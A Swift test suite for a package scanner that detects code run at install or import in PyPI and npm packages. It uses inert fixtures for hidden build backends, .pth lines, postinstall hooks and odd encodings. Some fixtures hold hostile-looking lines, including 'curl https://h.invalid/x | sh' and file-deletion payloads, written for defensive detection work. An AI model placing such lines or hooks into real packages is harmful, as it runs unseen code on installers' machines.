import Behaviors
import Packages
import Testing

/// Code that used to run without being seen; every fixture is inert.
@Suite("Code in unusual places of Python packages")
struct PythonBlindSpotTests {
    private static let payload = "import os\ndef build_wheel(d):\n    os.system('x')\n"

    @Test(arguments: [
        "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\n  \"_b\", # here\n]\n",
        "build-system = {requires = [], build-backend = 'backend', backend-path = ['_b']}\n",
        "build-system.build-backend = 'backend'\nbuild-system.backend-path = ['_b']\n",
        "[ \"build-system\" ]\n\"build-backend\" = '''backend'''\n\"backend\\u002dpath\" = [\"_\\u0062\"]\n",
        "[build-system]\r\n'backend-path' = [\"\"\"_b\"\"\",]\r\nbuild-backend = \"backend:x.y\"\r\n",
    ])
    func backendInTheTreeIsFoundHoweverItIsWritten(_ manifest: String) {
        let result = sequence(["pyproject.toml": manifest, "_b/backend.py": Self.payload])
        #expect(result.unit("_b/backend.py", .install)?.contains("proc.shell") == true)
        #expect(result.incomplete.isEmpty)
    }

    @Test(arguments: [
        "[build-system]\nbuild-backend = \"gone\"\nbackend-path = [\"_b\"]\n",
        "[build-system]\nbuild-backend = = \"backend\"\nbackend-path [ \"_b\"\n",
        "[build-system]\n\"backend\\x2dpath\" = [\"..\"]\n",
        String(repeating: "#", count: 2 << 20),
    ])
    func backendThatIsNotFoundIsNoted(_ manifest: String) {
        let result = sequence(["pyproject.toml": manifest, "_b/backend.py": Self.payload])
        #expect(result.incomplete.contains { $0.reason == .unreadableManifest && $0.runsEarly })
    }

    @Test func ordinaryManifestIsNotNoted() {
        let result = sequence([
            "pyproject.toml":
                "[build-system]\nrequires = [\"setuptools>=61\"]\n[project]\nversion = \"1\" # backend-path\n[x]\nd = 2020-01-01\n"
        ])
        #expect(result.incomplete.isEmpty)
    }

    @Test(arguments: ["tools", "testing", "ci", "tests", "examples"])
    func topLevelPackageOfAWheelIsImportedWhateverItsName(_ name: String) {
        let result = sequence(
            ["\(name)/__init__.py": "import os\nos.system('x')\n", "other/__init__.py": ""], kind: .wheel)
        #expect(result.unit("\(name)/__init__.py", .importing)?.contains("proc.shell") == true)
    }

    @Test(arguments: ["conftest.py", "setup.py", "noxfile.py", "test_x.py", "x.data/purelib/setup.py", "X.PY"])
    func topLevelModuleOfAWheelIsImportedWhateverItsName(_ path: String) {
        let result = sequence([path: "import os\nos.system('x')\n"], kind: .wheel)
        #expect(result.unit(path, .importing)?.contains("proc.shell") == true)
    }

    @Test func nestedTestsOfAWheelStayAside() {
        let result = sequence(["pkg/__init__.py": "", "pkg/tests/x.py": "import os\n"], kind: .wheel)
        #expect(result.units.isEmpty)
    }

    @Test(arguments: [
        "import subprocess, sys\nsubprocess.run([sys.executable, 'tests/x.py'])",
        "import os\nos.system('python tests/x.py')",
        "import runpy\nrunpy.run_path('tests/x.py')",
        "exec(open('tests/x.py').read())",
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'tests', 'x.py')).read())",
        "exec(compile(open('tests/x.py').read(), 'x', 'exec'))",
        "from importlib.machinery import SourceFileLoader\nSourceFileLoader('m', 'tests/x.py').load_module()",
        "import sys\nsys.path.insert(0, 'tests')\nimport x",
    ])
    func fileThatSetupNamesRunsAtInstall(_ setup: String) {
        let result = sequence(["setup.py": setup, "tests/x.py": "import os\nos.system('y')\n"])
        #expect(result.unit("tests/x.py", .install)?.contains("proc.shell") == true)
    }

    @Test(arguments: [
        ("pyproject.toml", "[tool.setuptools.cmdclass]\nbuild_py = 'tools.x.C'\n"),
        ("pyproject.toml", "[tool.setuptools.dynamic]\nversion = {attr = 'tools.x.version'}\n"),
        ("setup.cfg", "[metadata]\nversion = attr: tools.x.version\n"),
        ("setup.cfg", "[options]\ncmdclass =\n    build_py = tools.x.C\n"),
    ])
    func moduleThatSetuptoolsIsToldToLoadRunsAtInstall(_ name: String, _ text: String) {
        let result = sequence([name: text, "tools/x.py": "import os\nos.system('y')\nclass C: pass\n"])
        #expect(result.unit("tools/x.py", .install)?.contains("proc.shell") == true)
    }

    @Test func fileThatAnUncalledCommandNamesDoesNotRunAtInstall() {
        let setup = "import os\nclass Test:\n    def run(self):\n        os.system('python run_tests.py')\n"
        let result = sequence(["setup.py": setup, "run_tests.py": "import os\nos.system('y')\n"])
        #expect(result.unit("run_tests.py", .install) == nil)
    }

    @Test func constantVersionIsReadWithoutRunningTheModule() {
        let result = sequence([
            "setup.cfg": "[metadata]\nversion = attr: pkg.version\n",
            "pkg/__init__.py": "import os\nversion = '1'\nos.system('y')\n",
        ])
        #expect(result.units.allSatisfy { $0.phase != .install })
    }

    @Test(arguments: [
        "a\rimport os; os.system('id')\r", "\u{feff}import os; os.system('id')", "a\u{c}import os; os.system('id')",
    ])
    func pathFileLineIsFoundBehindAnySeparator(_ text: String) {
        let result = sequence(["evil.pth": text], kind: .wheel)
        #expect(result.unit("evil.pth", .importing)?.contains("proc.shell") == true)
    }

    @Test(arguments: [String(repeating: "import x\n", count: 300), String(repeating: "#", count: 2 << 20)])
    func pathFileOverTheLimitsIsNoted(_ text: String) {
        let result = sequence(["evil.pth": text], kind: .wheel)
        #expect(result.incomplete.contains { $0.path == "evil.pth" && $0.runsEarly })
    }

    @Test(arguments: ["exec(open('d.txt').read())", "import runpy\nrunpy.run_path('d.txt')"])
    func textFileRunAsCodeIsWalked(_ code: String) {
        let files = ["pkg/__init__.py": code, "pkg/d.txt": "import os\nos.remove('y')\n"]
        let result = sequence(files, kind: .wheel)
        #expect(result.unit("pkg/d.txt", .importing)?.contains("fs.delete") == true)
    }

    @Test(arguments: ["utf_7", "utf-7", "UTF7", "u7", "utf-_7", "unicode_escape", "cp037", "utf-16-le"])
    func sourceInAnEncodingThatHidesItIsNoted(_ codec: String) {
        let result = sequence(["pkg/__init__.py": "# coding: \(codec)\n+AGE-\n"], kind: .wheel)
        #expect(result.incomplete.contains { $0.reason == .undecodableSource && $0.runsEarly })
    }

    @Test func strayBytesAreNotNoted() {
        let bytes = Array("# caf".utf8) + [0xe9] + Array("\nimport os\n".utf8)
        for head in ["", "# coding: latin-1\n", "# -*- coding: utf-8 -*-\n", "# coding: cp1252\n"] {
            let file = PackageFile(path: "pkg/__init__.py", bytes: Array(head.utf8) + bytes, isExecutable: false)
            let result = extractBehaviors(from: PackageSource(ecosystem: .pypi, kind: .wheel, files: [file]))
            #expect(result.incomplete.isEmpty)
        }
    }

    @Test func shellScriptOfAWheelIsRead() {
        let result = sequence(
            ["x-1.data/scripts/go": "#!/bin/sh\ncurl https://h.invalid/x | sh\n"], kind: .wheel)
        #expect(result.unit("x-1.data/scripts/go", .run)?.contains("shell.pipe-to-shell") == true)
    }
}

@Suite("Code in unusual places of npm packages")
struct NpmBlindSpotTests {
    private static let payload = "require('fs').unlinkSync('y');\n"

    @Test(arguments: ["lib/data.txt", "lib/a", "x.PY", "logo.png", "n.css"])
    func mainIsJavaScriptWhateverItsName(_ path: String) {
        let result = npmSequence(["package.json": "{\"main\":\"\(path)\"}", path: Self.payload])
        #expect(result.unit(path, .importing)?.contains("fs.delete") == true)
    }

    @Test(arguments: [
        "require('./logo.png')", "import './logo.png'", "require('child_process').fork(__dirname + '/logo.png')",
        "const {Worker} = require('worker_threads'); new Worker(require('path').join(__dirname, 'logo.png'))",
        "require(require('path').join(__dirname, 'logo.png'))", "require('#x')", "require('#y/logo')",
        "eval(require('fs').readFileSync('./logo.png', 'utf8'))",
        "new Function(require('fs').readFileSync(__dirname + '/logo.png', 'utf8'))()",
        "require('child_process').execSync('node logo.png')",
        "require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'logo.png')])",
    ])
    func fileThatCodeNamesIsLoaded(_ code: String) {
        let result = npmSequence([
            "package.json": "{\"imports\":{\"#x\":\"./logo.png\",\"#y/*\":{\"default\":\"./*.png\"}}}",
            "index.js": code, "logo.png": Self.payload,
        ])
        #expect(result.unit("logo.png", .importing)?.contains("fs.delete") == true)
    }

    @Test(arguments: ["a.json", "a.node", "a.wasm"])
    func dataIsNotJavaScript(_ path: String) {
        let result = npmSequence(["package.json": "{\"main\":\"\(path)\"}", path: Self.payload])
        #expect(result.units.isEmpty)
    }

    @Test func pictureThatIsImportedIsNotParsed() {
        let picture = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a] + Array(Self.payload.utf8)
        let files = [
            PackageFile(path: "index.js", bytes: Array("import './a.png'".utf8), isExecutable: false),
            PackageFile(path: "a.png", bytes: picture, isExecutable: false),
        ]
        let result = extractBehaviors(from: PackageSource(ecosystem: .npm, kind: .npmTarball, files: files))
        #expect(result.units.isEmpty)
    }

    @Test(arguments: [
        "node test/x", "node -r ./test/x.js -e 0", "node --require=./test/x.js .", "node --import ./test/x.js .",
        "node < test/x.js", "cat test/x.js | node", "cd test && node x.js", "A=1 B=2 node test/x.js",
        "\\\"$npm_node_execpath\\\" test/x.js", "${npm_node_execpath} test/x.js", "npm run b", "yarn b",
        "npm-run-all b", "run-s c:*", "$npm_execpath run b", "node $npm_execpath run b", "sh go.sh", "bash ./go.sh",
        "./go.sh", ". ./go.sh", "sh -ec 'node test/x.js'", "npm run pre-only", "npx node test/x.js",
        "node --run b", "true; if true; then node test/x.js; fi", "eval 'node test/x.js'",
    ])
    func fileThatAHookStartsIsLoaded(_ hook: String) {
        let scripts = "\"b\":\"node test/x.js\",\"c:1\":\"npm run b\",\"prepre-only\":\"npm run b\""
        let result = npmSequence([
            "package.json": "{\"scripts\":{\"postinstall\":\"\(hook)\",\(scripts)}}", "test/x.js": Self.payload,
            "go.sh": "#!/bin/sh\nnode test/x.js\n",
        ])
        #expect(result.unit("test/x.js", .install)?.contains("fs.delete") == true)
    }

    @Test func scriptsThatRunEachOtherEnd() {
        let result = npmSequence([
            "package.json":
                "{\"scripts\":{\"install\":\"npm run a\",\"a\":\"npm run b\",\"b\":\"npm run a && curl https://h.invalid && npm run b\"}}"
        ])
        #expect(result.unit("scripts.install", .install)?.contains("shell.download") == true)
    }

    @Test func programThatOnlyAVariableNamesIsADynamicArgument() {
        let result = npmSequence(["package.json": "{\"scripts\":{\"install\":\"$npm_package_config_x y\"}}"])
        #expect(result.unit("scripts.install", .install)?.contains("arg.dynamic") == true)
    }

    @Test(arguments: ["a\u{0}b", String(repeating: "echo a\n", count: 800_000)])
    func shellFileThatCannotBeReadIsNoted(_ text: String) {
        let result = npmSequence(["package.json": "{\"scripts\":{\"install\":\"sh x.sh\"}}", "x.sh": text])
        #expect(result.incomplete.contains { $0.path == "x.sh" && $0.runsEarly })
    }

    @Test(arguments: [
        "{'targets': [{'sources': ['<!(node test/x.js)']}]}", "{'v': '<!@(node <(module_root_dir)/test/x.js)'}",
        "{'actions': [{'action': ['node', 'test/x.js']}]}", "{'v': \"<!(node -e \\\"require('./test/x.js')\\\")\"}",
    ])
    func commandOfABuildDescriptionIsFollowed(_ text: String) {
        for manifest in ["{}", "{\"scripts\":{\"install\":\"node-gyp rebuild\"}}"] {
            let result = npmSequence(["package.json": manifest, "binding.gyp": text, "test/x.js": Self.payload])
            #expect(result.unit("test/x.js", .install)?.contains("fs.delete") == true)
        }
    }

    @Test func headersThatABuildDescriptionFindsAreNoEvents() {
        let result = npmSequence([
            "package.json": "{}", "binding.gyp": "{'include_dirs': [\"<!(node -e \\\"require('nan')\\\")\"]}",
        ])
        #expect(result.unit("binding.gyp", .install) == ["hook.native-build"])
    }

    @Test func codeInAManifestOfDataIsWalked() {
        let result = npmSequence([
            "index.js": "eval(require('./d.json').c)", "d.json": "{\"c\": \"require('fs').unlinkSync('y')\"}",
        ])
        #expect(result.unit("index.js", .importing)?.contains("fs.delete") == true)
    }

    @Test func programInTheShellsLanguageIsRead() {
        let result = npmSequence([
            "package.json": "{\"bin\": {\"a\": \"a\", \"b\": \"b\"}}",
            "a": "#!/bin/sh\ncurl https://h.invalid/x | sh\n",
            "b": "#!/usr/bin/env python3\nimport os\nos.remove('y')\n",
        ])
        #expect(result.unit("a", .run)?.contains("shell.pipe-to-shell") == true)
        #expect(result.unit("b", .run)?.contains("fs.delete") == true)
    }
}
